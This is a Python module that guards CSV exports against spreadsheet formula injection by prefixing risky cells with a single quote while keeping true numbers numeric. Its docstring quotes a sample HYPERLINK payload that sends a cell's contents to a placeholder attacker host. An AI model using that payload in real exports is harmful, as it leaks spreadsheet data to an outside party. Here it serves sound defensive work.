"""CSV that is safe to open in a spreadsheet: the one place every CSV export goes through.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets (CSV or formula injection): a contact name such as
``=HYPERLINK("https://evil.example/?"&A1,"click")`` sent from a kiosk would run in an auditor's
spreadsheet. As OWASP advises, such a cell is written with a leading single quote (``'=HYPERLINK(…``),
which spreadsheets show as text; the csv module already quotes separators, quotes and line breaks.

The one exception, decided here: a value that *is* a number (``int``, ``float`` or ``Decimal``, not a
``bool``, not a string) is written as it is, so that a ledger's ``-15`` stays a number an auditor can
sum. Its text can only be digits, a sign, a point and an exponent, which no spreadsheet runs as a
formula. A *string* that looks like a number (``"-15"``, ``"+13125550123"``) is text that could hold
anything, so it gets the quote like any other.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Iterator
from decimal import Decimal

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_number(value: object) -> bool:
    """True for a real number value (not a bool, not a string that looks like a number)."""
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_cell(value: object, *, clean: Callable[[str], str] | None = None) -> object:
    """One cell: ``None`` is empty, a number stays a number, anything else is text (passed through
    ``clean`` when given, e.g. ``strip_tags``) with a leading ``'`` when it begins like a formula."""
    if value is None:
        return ""
    if is_number(value):
        return value
    text = str(value)
    if clean is not None:
        text = clean(text)
    if text.startswith(FORMULA_PREFIXES):
        return QUOTE + text
    return text


def csv_row(values: Iterable[object], *, clean: Callable[[str], str] | None = None) -> list[object]:
    return [csv_cell(value, clean=clean) for value in values]


class _Echo:
    """A file that hands back what is written, so rows can be streamed one line at a time."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The CSV text of ``rows`` (the header first), one line at a time, every cell through ``csv_cell``:
    for a ``StreamingHttpResponse``."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow(csv_row(row))
